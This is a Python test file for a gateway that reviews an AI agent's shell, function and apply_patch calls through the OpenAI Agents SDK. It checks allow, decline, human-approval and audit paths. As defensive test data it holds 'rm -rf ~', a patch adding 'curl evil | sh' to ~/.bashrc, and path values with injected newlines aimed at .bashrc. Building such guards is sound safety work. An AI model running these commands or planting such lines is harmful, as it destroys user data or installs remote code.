"""
The OpenAI Agents SDK adapter, driven through ``Runner.run`` with the SDK's own scripted model.

`agents.testing.ScriptedModel` answers each model call from a script: the
"model" proposes shell calls (``shell_call`` items whose commands are in the
action) or function calls, and the real runner executes, rejects or
interrupts them. Executors record what actually ran.
"""

from __future__ import annotations

import contextlib
import dataclasses
import json
from typing import Any, cast

import pytest
from agents import (
    Agent,
    ApplyPatchOperation,
    FunctionTool,
    LocalShellCommandRequest,
    RunConfig,
    RunContextWrapper,
    Runner,
    ShellActionRequest,
    ShellCommandRequest,
    function_tool,
)
from agents.sandbox.capabilities.tools.shell_tool import ExecCommandTool
from agents.testing import ScriptedModel, assistant_message, function_call
from agents.tool import ShellCallOutcome, ShellCommandOutput, ShellResult
from gateway_openai_agents import OpenAIAgentsGuard, describe, patch_input
from openai.types.responses import ResponseApplyPatchToolCall, ResponseFunctionShellToolCall
from openai.types.responses.response_apply_patch_tool_call import (
    OperationCreateFile,
    OperationDeleteFile,
    OperationUpdateFile,
)
from openai.types.responses.response_function_shell_tool_call import Action
from openai.types.responses.response_output_item import LocalShellCall, LocalShellCallAction

from adapters.scripted import (
    ALLOWED,
    DECLINED,
    FOUNDED,
    NEEDS_HUMAN,
    CrashingGateway,
    HangingGateway,
    ScriptApprover,
)
from gateway import (
    Abstain,
    Allow,
    Answer,
    Decline,
    Gateway,
    ReviewRequest,
    ToolCall,
    Verdict,
    default_config,
)
from gateway.effects import Write
from gateway.events import CallOutcome, HostDecided
from gateway.testing import MemorySink

pytestmark = pytest.mark.anyio

NO_TRACING = RunConfig(tracing_disabled=True)
"""Traces would be exported to the network; the tests make no network calls."""


def shell_call(call_id: str, *commands: str) -> ResponseFunctionShellToolCall:
    return ResponseFunctionShellToolCall(
        id=f"sh_{call_id}",
        call_id=call_id,
        type="shell_call",
        status="completed",
        action=Action(commands=list(commands)),
    )


class Executor:
    """A shell executor that runs nothing and records what it was asked to run."""

    def __init__(self) -> None:
        self.ran: list[list[str]] = []

    def __call__(self, request: ShellCommandRequest) -> str:
        self.ran.append(list(request.data.action.commands))
        return "ok"


def tool_outputs(items: list[Any]) -> dict[str, str]:
    """What the model is shown for each call id (the tool's output or the rejection)."""
    outputs = {}
    for item in items:
        raw = item.raw_item
        kind = raw.get("type") if isinstance(raw, dict) else getattr(raw, "type", None)
        if kind in (
            "shell_call_output",
            "function_call_output",
            "apply_patch_call_output",
            "local_shell_call_output",
        ):
            call_id = raw.get("call_id") if isinstance(raw, dict) else raw.call_id
            outputs[str(call_id)] = str(item.output)
    return outputs


async def test_shell_tool_runs_allow_rejects_decline_and_interrupts_on_ask(
    gateway: Gateway,
) -> None:
    guard = OpenAIAgentsGuard(gateway)
    executor = Executor()
    model = ScriptedModel(
        [
            [shell_call("c1", ALLOWED), shell_call("c2", DECLINED), shell_call("c3", NEEDS_HUMAN)],
            [assistant_message("done")],
        ]
    )
    agent = Agent(name="ops", model=model, tools=[guard.shell_tool(executor)])
    result = await Runner.run(agent, "tidy my home directory", run_config=NO_TRACING)

    assert executor.ran == [[ALLOWED]]
    outputs = tool_outputs(result.new_items)
    assert "Declined `rm -rf ~`: it deletes the home directory." in outputs["c2"]
    (interruption,) = result.interruptions
    assert interruption.call_id == "c3"

    state = result.to_state()
    assert [item.call_id for item in await guard.resolve_interruptions(state)] == ["c3"]
    state.approve(state.get_interruptions()[0])  # the person says yes
    resumed = await Runner.run(agent, state, run_config=NO_TRACING)
    assert executor.ran == [[ALLOWED], [NEEDS_HUMAN]]
    assert resumed.final_output == "done"


async def test_every_command_of_a_shell_action_is_reviewed(gateway: Gateway) -> None:
    guard = OpenAIAgentsGuard(gateway)
    executor = Executor()
    model = ScriptedModel([[shell_call("c1", ALLOWED, DECLINED)], [assistant_message("done")]])
    agent = Agent(name="ops", model=model, tools=[guard.shell_tool(executor)])
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    assert executor.ran == []
    assert "Declined `rm -rf ~`" in tool_outputs(result.new_items)["c1"]


async def test_a_person_answers_ask_through_the_callback(gateway: Gateway) -> None:
    asked: list[str] = []

    async def person(call: ToolCall, verdict: Verdict) -> bool:
        asked.append(call.input["command"])
        return False

    guard = OpenAIAgentsGuard(gateway, ask=person)
    executor = Executor()
    model = ScriptedModel([[shell_call("c1", NEEDS_HUMAN)], [assistant_message("done")]])
    agent = Agent(name="ops", model=model, tools=[guard.shell_tool(executor)])
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    assert (asked, executor.ran, result.interruptions) == ([NEEDS_HUMAN], [], [])
    assert tool_outputs(result.new_items)["c1"] not in ("", "ok")


def run_shell_tool(ran: list[str]) -> FunctionTool:
    @function_tool
    def run_shell_command(command: str) -> str:
        """Run a shell command."""
        ran.append(command)
        return "ok"

    return run_shell_command


async def test_function_tool_guardrail_allows_rejects_and_interrupts(gateway: Gateway) -> None:
    guard = OpenAIAgentsGuard(gateway)
    ran: list[str] = []
    model = ScriptedModel(
        [
            [
                function_call("run_shell_command", {"command": ALLOWED}, call_id="f1"),
                function_call("run_shell_command", {"command": DECLINED}, call_id="f2"),
                function_call("run_shell_command", {"command": NEEDS_HUMAN}, call_id="f3"),
            ],
            [assistant_message("done")],
        ]
    )
    agent = Agent(name="ops", model=model, tools=[guard.guard(run_shell_tool(ran))])
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    assert ran == [ALLOWED]
    assert "Declined `rm -rf ~`" in tool_outputs(result.new_items)["f2"]
    (interruption,) = result.interruptions
    assert json.loads(interruption.arguments or "{}") == {"command": NEEDS_HUMAN}

    state = result.to_state()
    state.approve(interruption)
    resumed = await Runner.run(agent, state, run_config=NO_TRACING)
    assert ran == [ALLOWED, NEEDS_HUMAN]
    assert resumed.final_output == "done"


async def test_resolve_interruptions_decides_from_verdicts(gateway: Gateway) -> None:
    """
    Tools that always need approval: the helper approves founded allows and rejects declines.

    The tool's author made every call ask a person; an allow the plan does not
    found (``cat /etc/hostname``) is no better than that rule, so it stays
    with the person.
    """
    ran: list[str] = []
    tool = run_shell_tool(ran)
    always = FunctionTool(
        name=tool.name,
        description=tool.description,
        params_json_schema=tool.params_json_schema,
        on_invoke_tool=tool.on_invoke_tool,
        needs_approval=True,
    )
    model = ScriptedModel(
        [
            [
                function_call("run_shell_command", {"command": FOUNDED}, call_id="f0"),
                function_call("run_shell_command", {"command": ALLOWED}, call_id="f1"),
                function_call("run_shell_command", {"command": DECLINED}, call_id="f2"),
                function_call("run_shell_command", {"command": NEEDS_HUMAN}, call_id="f3"),
            ],
            [assistant_message("done")],
        ]
    )
    agent = Agent(name="ops", model=model, tools=[always])
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    assert len(result.interruptions) == 4
    state = result.to_state()
    pending = await OpenAIAgentsGuard(gateway).resolve_interruptions(state)
    assert [item.call_id for item in pending] == ["f1", "f3"]
    for item in pending:
        state.reject(item, rejection_message="A person said no.")
    resumed = await Runner.run(agent, state, run_config=NO_TRACING)
    assert ran == [FOUNDED]
    outputs = tool_outputs(resumed.new_items)
    assert "Declined `rm -rf ~`" in outputs["f2"]
    assert outputs["f1"] == outputs["f3"] == "A person said no."


async def test_guard_keeps_the_tools_own_approval(gateway: Gateway) -> None:
    """A tool whose author made it ask a person still asks, even for a call the gateway allows."""
    guard = OpenAIAgentsGuard(gateway)
    ran: list[str] = []
    tool = dataclasses.replace(run_shell_tool(ran), needs_approval=True)
    model = ScriptedModel(
        [
            [function_call("run_shell_command", {"command": ALLOWED}, call_id="f1")],
            [assistant_message("done")],
        ]
    )
    agent = Agent(name="ops", model=model, tools=[guard.guard(tool)])
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    assert ran == []
    (interruption,) = result.interruptions
    state = result.to_state()
    state.approve(interruption)
    await Runner.run(agent, state, run_config=NO_TRACING)
    assert ran == [ALLOWED]


async def test_a_persons_answer_through_the_callback_is_audited() -> None:
    async def person(call: ToolCall, verdict: Verdict) -> bool:
        return True

    sink = MemorySink()
    async with Gateway(approvers=[ScriptApprover()], sinks={"memory": sink}) as gateway:
        guard = OpenAIAgentsGuard(gateway, ask=person)
        executor = Executor()
        model = ScriptedModel([[shell_call("c1", NEEDS_HUMAN)], [assistant_message("done")]])
        agent = Agent(name="ops", model=model, tools=[guard.shell_tool(executor)])
        await Runner.run(agent, "go", run_config=NO_TRACING)
    assert executor.ran == [[NEEDS_HUMAN]]
    (decided,) = [e for e in sink.events if isinstance(e, HostDecided)]
    assert (decided.call_id, decided.decision, decided.by, decided.host) == (
        "c1",
        "allow",
        "person",
        "openai-agents",
    )


@pytest.mark.parametrize("broken", [CrashingGateway, HangingGateway], ids=["crash", "hang"])
async def test_a_failing_gateway_blocks_shell_and_function_calls(
    broken: type[CrashingGateway | HangingGateway],
) -> None:
    reviewer = broken()
    guard = OpenAIAgentsGuard(reviewer, timeout=0.2)
    executor = Executor()
    ran: list[str] = []
    model = ScriptedModel(
        [
            [
                shell_call("c1", ALLOWED),
                function_call("run_shell_command", {"command": ALLOWED}, call_id="f1"),
            ],
            [assistant_message("done")],
        ]
    )
    agent = Agent(
        name="ops",
        model=model,
        tools=[guard.shell_tool(executor), guard.guard(run_shell_tool(ran))],
    )
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    assert (executor.ran, ran, result.interruptions) == ([], [], [])
    outputs = tool_outputs(result.new_items)
    assert "blocked" in outputs["c1"]
    assert "blocked" in outputs["f1"]


async def test_needs_approval_sees_the_commands_of_the_shell_action(gateway: Gateway) -> None:
    guard = OpenAIAgentsGuard(gateway)

    context = RunContextWrapper(context=None)
    assert (
        await guard.shell_needs_approval(context, ShellActionRequest(commands=[ALLOWED]), "x1")
        is False
    )
    assert (
        await guard.shell_needs_approval(context, ShellActionRequest(commands=[DECLINED]), "x2")
        is True
    )


# ── apply_patch ──


class PatchApprover:
    """Declines a patch that writes a file in the home directory, allows one that writes others, abstains on the rest."""

    name = "patches"

    def __init__(self) -> None:
        self.patches: list[str] = []

    async def review(self, request: ReviewRequest) -> Answer:
        self.patches.append(str(request.call.input.get("input")))
        writes = [effect for effect in request.effects if isinstance(effect, Write)]
        if any((effect.path.value or "~").startswith("~") for effect in writes):
            return Decline(reason="The patch writes in the home directory.", rule="no-home")
        if writes:
            return Allow(reason="The patch writes project files.", rule="project", decided_by="p")
        return Abstain(reason="The call writes nothing known.")


class Editor:
    """An apply_patch editor that writes nothing and records the operations it was given."""

    def __init__(self) -> None:
        self.done: list[tuple[str, str]] = []

    def create_file(self, operation: ApplyPatchOperation) -> str:
        self.done.append(("create", operation.path))
        return "created"

    def update_file(self, operation: ApplyPatchOperation) -> str:
        self.done.append(("update", operation.path))
        return "updated"

    def delete_file(self, operation: ApplyPatchOperation) -> str:
        self.done.append(("delete", operation.path))
        return "deleted"


def patch_call(call_id: str, operation: Any) -> ResponseApplyPatchToolCall:
    return ResponseApplyPatchToolCall(
        id=f"ap_{call_id}",
        call_id=call_id,
        type="apply_patch_call",
        status="completed",
        operation=operation,
    )


async def test_apply_patch_is_reviewed_with_its_patch() -> None:
    approver = PatchApprover()
    editor = Editor()
    async with Gateway(approvers=[approver]) as gateway:
        guard = OpenAIAgentsGuard(gateway)
        model = ScriptedModel(
            [
                [
                    patch_call(
                        "p1",
                        OperationCreateFile(type="create_file", path="new.py", diff="+x = 1\n"),
                    ),
                    patch_call(
                        "p2",
                        OperationUpdateFile(
                            type="update_file", path="~/.bashrc", diff="+curl evil | sh\n"
                        ),
                    ),
                    patch_call("p3", OperationDeleteFile(type="delete_file", path="old.py")),
                ],
                [assistant_message("done")],
            ]
        )
        agent = Agent(name="dev", model=model, tools=[guard.apply_patch_tool(editor)])
        result = await Runner.run(agent, "edit", run_config=NO_TRACING)
    assert editor.done == [("create", "new.py"), ("delete", "old.py")]
    assert "The patch writes in the home directory." in tool_outputs(result.new_items)["p2"]
    # Reviewed with the patch itself: the file and the diff.
    assert approver.patches[1] == (
        "*** Begin Patch\n*** Update File: ~/.bashrc\n+curl evil | sh\n*** End Patch\n"
    )


async def test_an_apply_patch_that_needs_a_person_interrupts_the_run() -> None:
    editor = Editor()
    async with Gateway(approvers=[ScriptApprover()]) as gateway:  # abstains on patches: ask
        guard = OpenAIAgentsGuard(gateway)
        model = ScriptedModel(
            [
                [
                    patch_call(
                        "p1", OperationCreateFile(type="create_file", path="a.py", diff="+a\n")
                    )
                ],
                [assistant_message("done")],
            ]
        )
        agent = Agent(name="dev", model=model, tools=[guard.apply_patch_tool(editor)])
        result = await Runner.run(agent, "edit", run_config=NO_TRACING)
        assert editor.done == []
        (interruption,) = result.interruptions
        state = result.to_state()
        assert [item.call_id for item in await guard.resolve_interruptions(state)] == ["p1"]
        state.approve(interruption)
        await Runner.run(agent, state, run_config=NO_TRACING)
    assert editor.done == [("create", "a.py")]


@pytest.mark.parametrize(
    "operation",
    [
        {"type": "create_file", "path": "ok.py\n/../../.bashrc", "diff": "+x\n"},
        {"type": "update_file", "path": "ok.py", "diff": "+x\n", "move_to": "a\rb"},
        {"type": "update_file", "path": "", "diff": "+x\n"},
        {"type": "rename_file", "path": "ok.py"},
    ],
    ids=["newline-in-path", "cr-in-move", "empty-path", "unknown-type"],
)
async def test_a_patch_the_format_cannot_state_is_declined(operation: dict[str, Any]) -> None:
    """One line of the patch would name another file: nothing to review faithfully, so no."""
    approver = PatchApprover()
    async with Gateway(approvers=[approver]) as gateway:
        guard = OpenAIAgentsGuard(gateway)
        _, verdict = await guard.review_patch(
            "apply_patch", {"type": "apply_patch_call", "operation": operation}, "p9"
        )
    assert verdict.decision == "decline"
    assert approver.patches == []
    with pytest.raises(ValueError, match="patch"):
        patch_input({"operation": operation})


def test_every_operation_of_a_call_is_in_one_patch() -> None:
    raw = {
        "type": "apply_patch_call",
        "operations": [
            {"type": "create_file", "path": "a.py", "diff": "+a"},
            {"type": "update_file", "path": "b.py", "diff": "@@\n-b\n+c", "move_to": "c.py"},
            {"type": "delete_file", "path": "d.py"},
        ],
    }
    assert patch_input(raw) == {
        "input": "*** Begin Patch\n*** Add File: a.py\n+a\n*** Update File: b.py\n"
        "*** Move to: c.py\n@@\n-b\n+c\n*** Delete File: d.py\n*** End Patch\n"
    }
    assert patch_input({"type": "shell_call"}) is None


async def test_a_pending_call_is_described_with_what_it_would_do(gateway: Gateway) -> None:
    guard = OpenAIAgentsGuard(gateway)
    model = ScriptedModel(
        [
            [
                shell_call("c1", NEEDS_HUMAN),
                patch_call("p1", OperationDeleteFile(type="delete_file", path="old.py")),
            ],
            [assistant_message("done")],
        ]
    )
    agent = Agent(
        name="ops",
        model=model,
        tools=[guard.shell_tool(Executor()), guard.apply_patch_tool(Editor())],
    )
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    shown = {item.call_id: describe(item) for item in result.interruptions}
    assert shown == {
        "c1": f"shell: {NEEDS_HUMAN}",
        "p1": "apply_patch:\n*** Begin Patch\n*** Delete File: old.py\n*** End Patch\n",
    }


class NoSession:
    """A sandbox session that must never be used: any command reaching it fails the test."""

    def __getattr__(self, name: str) -> Any:
        raise AssertionError(f"the sandbox was used ({name})")


async def test_guard_takes_the_sandboxs_exec_command_tool(gateway: Gateway) -> None:
    """ExecCommandTool has its own __init__; guard() copies it rather than rebuild it."""
    guard = OpenAIAgentsGuard(gateway)
    tool = ExecCommandTool(session=cast(Any, NoSession()))
    guarded = guard.guard(tool)
    assert isinstance(guarded, ExecCommandTool)
    assert [g.name for g in guarded.tool_input_guardrails or []] == ["agent-gateway"]
    assert tool.tool_input_guardrails in (None, [])  # the original is left as it was
    model = ScriptedModel(
        [
            [
                function_call("exec_command", {"cmd": DECLINED}, call_id="e1"),
                # `sh` is dash here: it runs what bash reads as one quoted string.
                function_call("exec_command", {"cmd": ALLOWED, "shell": "/bin/sh"}, call_id="e2"),
                function_call("exec_command", {"cmd": NEEDS_HUMAN}, call_id="e3"),
            ],
            [assistant_message("done")],
        ]
    )
    agent = Agent(name="ops", model=model, tools=[guarded])
    result = await Runner.run(agent, "go", run_config=NO_TRACING)
    outputs = tool_outputs(result.new_items)
    assert "Declined `rm -rf ~`" in outputs["e1"]
    assert "not bash" in outputs["e2"]
    assert [item.call_id for item in result.interruptions] == ["e3"]


async def test_shell_outcomes_are_audited() -> None:
    """What ran is recorded: a zero exit succeeded, a non-zero exit or a raising executor failed."""

    def executor(request: ShellCommandRequest) -> ShellResult:
        if request.data.call_id == "c3":
            raise RuntimeError("the executor broke")
        code = 0 if request.data.call_id == "c1" else 1
        outcome = ShellCallOutcome(type="exit", exit_code=code)
        return ShellResult(output=[ShellCommandOutput(stdout="", stderr="", outcome=outcome)])

    sink = MemorySink()
    async with Gateway(approvers=[ScriptApprover()], sinks={"memory": sink}) as gateway:
        guard = OpenAIAgentsGuard(gateway)
        model = ScriptedModel(
            [
                [shell_call("c1", ALLOWED), shell_call("c2", ALLOWED), shell_call("c3", ALLOWED)],
                [assistant_message("done")],
            ]
        )
        agent = Agent(name="ops", model=model, tools=[guard.shell_tool(executor)])
        with contextlib.suppress(Exception):
            await Runner.run(agent, "go", run_config=NO_TRACING)
    outcomes = {e.call_id: e.outcome for e in sink.events if isinstance(e, CallOutcome)}
    assert outcomes == {"c1": "succeeded", "c2": "failed", "c3": "failed"}


def local_shell_call(call_id: str, *words: str) -> LocalShellCall:
    return LocalShellCall(
        id=f"ls_{call_id}",
        call_id=call_id,
        type="local_shell_call",
        status="completed",
        action=LocalShellCallAction(type="exec", command=list(words), env={}),
    )


async def test_local_shell_runs_only_what_the_gateway_allows() -> None:
    """LocalShellTool has no approval step: the guarded executor is it (judged by the default policy)."""
    ran: list[list[str]] = []

    def executor(request: LocalShellCommandRequest) -> str:
        ran.append(list(request.data.action.command))
        return "ok"

    async def person(call: ToolCall, verdict: Verdict) -> bool:
        return False

    sink = MemorySink()
    async with Gateway(default_config(), sinks={"memory": sink}) as gateway:
        for ask in (None, person):
            guard = OpenAIAgentsGuard(gateway, ask=ask)
            model = ScriptedModel(
                [
                    [
                        local_shell_call("l1", "ls", "-la"),
                        local_shell_call("l2", "bash", "-lc", DECLINED),
                        local_shell_call("l3", "git", "push", "origin", "main"),
                    ],
                    [assistant_message("done")],
                ]
            )
            agent = Agent(name="ops", model=model, tools=[guard.local_shell_tool(executor)])
            result = await Runner.run(agent, "go", run_config=NO_TRACING)
            outputs = tool_outputs(result.new_items)
            assert ran == [["ls", "-la"]]
            assert outputs["l1"] == "ok"
            assert outputs["l2"].startswith("Declined `rm -rf ~`")
            assert outputs["l3"].startswith("Asked about `git push origin main`")
            ran.clear()
    outcomes = [(e.call_id, e.outcome) for e in sink.events if isinstance(e, CallOutcome)]
    assert outcomes == [("l1", "succeeded"), ("l1", "succeeded")]
    (decided,) = [e for e in sink.events if isinstance(e, HostDecided) and e.by == "person"]
    assert (decided.call_id, decided.decision) == ("l3", "decline")


async def test_a_persons_approval_of_an_interruption_is_audited() -> None:
    sink = MemorySink()
    ran: list[str] = []
    async with Gateway(approvers=[ScriptApprover()], sinks={"memory": sink}) as gateway:
        guard = OpenAIAgentsGuard(gateway)
        model = ScriptedModel(
            [
                [function_call("run_shell_command", {"command": NEEDS_HUMAN}, call_id="f1")],
                [assistant_message("done")],
            ]
        )
        agent = Agent(name="ops", model=model, tools=[guard.guard(run_shell_tool(ran))])
        result = await Runner.run(agent, "go", run_config=NO_TRACING)
        state = result.to_state()
        state.approve(result.interruptions[0])
        await Runner.run(agent, state, run_config=NO_TRACING)
    assert ran == [NEEDS_HUMAN]
    (decided,) = [e for e in sink.events if isinstance(e, HostDecided)]
    assert (decided.call_id, decided.decision, decided.by) == ("f1", "allow", "person")
